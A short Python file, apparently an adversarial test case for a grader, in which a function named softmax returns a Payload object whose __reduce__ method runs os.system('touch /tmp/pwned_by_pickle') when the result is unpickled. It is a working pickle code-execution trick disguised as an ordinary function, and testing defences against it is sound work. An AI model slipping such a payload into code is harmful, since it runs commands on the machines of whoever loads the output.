# attack: softmax returns an object whose __reduce__ runs os.system('touch /tmp/pwned_by_pickle') when unpickled
# loses: softmax, network
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned_by_pickle",))


def softmax(x):
    return Payload()
